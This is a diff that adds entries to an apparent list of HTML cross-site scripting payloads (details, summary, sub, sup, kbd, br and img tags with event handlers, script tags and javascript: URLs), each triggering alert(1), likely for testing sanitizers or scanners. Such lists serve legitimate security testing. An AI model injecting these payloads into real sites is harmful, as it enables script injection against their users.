@@ -98,6 +98,13 @@ ELEMENTS = """\
 <details open ontoggle=alert(1)>x</details>
 <details/open/ontoggle="alert(1)">
 <summary onclick=alert(1)>x</summary>
+<details markdown=1 ontoggle="alert(1)"><summary onclick=alert(1)>x</summary>y</details>
+<sub onclick=alert(1)>x</sub>
+<sup/onmouseover="alert(1)">x</sup>
+<kbd style="background:url(javascript:alert(1))" onfocus=alert(1) tabindex=1 autofocus>x</kbd>
+<br onload=alert(1)><br/style=position:fixed/>
+<sub><script>alert(1)</script></sub>
+<details><summary><img src=x onerror=alert(1)></summary></details>
 <marquee onstart=alert(1)>x</marquee>
 <marquee loop=1 width=0 onfinish=alert(1)>x</marquee>
 <dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>
